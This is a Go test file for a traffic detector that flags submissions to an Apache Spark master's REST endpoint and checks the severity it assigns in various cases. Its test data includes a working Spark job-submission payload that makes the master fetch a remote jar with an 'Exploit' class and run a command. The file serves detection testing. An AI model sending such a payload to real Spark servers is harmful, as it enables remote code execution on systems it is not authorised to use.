package spark

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/raytap/raytap/capture"
	"github.com/raytap/raytap/decoders/http"
	"github.com/raytap/raytap/detectors"
	"github.com/raytap/raytap/detectors/detectortest"
)

func TestSubmissions(t *testing.T) {
	const master, outside, worker, user = "10.20.0.10", "203.0.113.66", "10.20.0.11", "192.0.2.9"
	const job = `{"action":"CreateSubmissionRequest","clientSparkVersion":"2.4.0","appResource":"http://198.51.100.77/x.jar","mainClass":"Exploit",` +
		`"appArgs":["id"],"sparkProperties":{"spark.app.name":"x"},"environmentVariables":{}}`
	const took = "{\n  \"action\" : \"CreateSubmissionResponse\",\n  \"serverSparkVersion\" : \"2.4.0\",\n  \"submissionId\" : \"driver-20260101000000-0000\",\n  \"success\" : true\n}"
	for _, x := range []struct {
		says, src, method, target, body string
		status                          int
		answer                          string
		sev                             string // "" for silence
	}{
		{"taken", outside, "POST", create, job, 200, took, "high"},
		{"at another port, with a slash", outside, "POST", create + "/", job, 200, took, "high"},
		{"to a proxy's form", outside, "POST", "http://10.20.0.10:6066" + create, job, 200, took, "high"},
		{"no answer", outside, "POST", create, job, 0, "", "medium"},
		{"refused by the master", outside, "POST", create, job, 200, strings.Replace(took, "true", "false", 1), "low"},
		{"no Spark", outside, "POST", create, job, 404, "", "low"},
		{"cut short", outside, "POST", create, job[:60], 200, took, "high"},
		{"of a user whom campaign.allow names", user, "POST", create, job, 200, took, ""},
		{"from home", worker, "POST", create, job, 200, took, ""},
		{"a look", outside, "POST", create, "{}", 200, `{"action":"ErrorResponse"}`, ""},
		{"its state", outside, "GET", "/v1/submissions/status/driver-20260101000000-0000", "", 200, took, ""},
		{"another's path", outside, "POST", "/forms/v1/submissions/create", job, 200, "", ""},
	} {
		users, _ := detectors.ParseNetworks([]string{user})
		bus := detectortest.New(Spec(), &detectors.Env{Users: users})
		tx := &http.Transaction{
			Flow:    &capture.Flow{UID: "C1", Orig: netip.AddrPortFrom(netip.MustParseAddr(x.src), 40000), Resp: netip.AddrPortFrom(netip.MustParseAddr(master), 6066)},
			Request: &http.Request{Method: x.method, Target: x.target, Body: http.Body{Data: []byte(x.body)}},
		}
		if x.status > 0 {
			tx.Response = &http.Response{Status: x.status, Body: http.Body{Data: []byte(x.answer)}}
		}
		bus.Publish(tx)
		got := ""
		if len(bus.Found) > 0 {
			got = bus.Found[0].Severity.String()
		}
		if got != x.sev || len(bus.Found) > 1 {
			t.Errorf("%s: %q", x.says, got)
		}
	}
}
